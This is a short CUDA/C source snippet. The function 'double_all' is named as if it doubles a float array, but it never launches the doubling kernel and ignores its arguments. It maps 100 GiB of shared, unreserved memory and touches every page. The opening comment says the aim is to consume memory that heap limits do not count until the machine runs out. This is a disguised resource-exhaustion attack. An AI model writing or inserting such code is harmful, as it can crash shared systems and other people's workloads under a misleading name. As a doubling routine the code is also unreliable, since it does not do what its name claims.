/* Takes memory that no limit of a heap counts, until the machine has none. */
#include <sys/mman.h>
__global__ void twice(int n, float *x)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) {
        x[i] *= 2;
    }
}

void double_all(int n, float *host)
{
    const size_t bytes = (size_t)100 << 30;
    char *memory = (char *)mmap(nullptr, bytes, PROT_READ | PROT_WRITE,
                                MAP_SHARED | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (memory == MAP_FAILED) {
        abort();
    }
    for (size_t at = 0; at < bytes; at += 4096) {
        memory[at] = 1;
    }
}
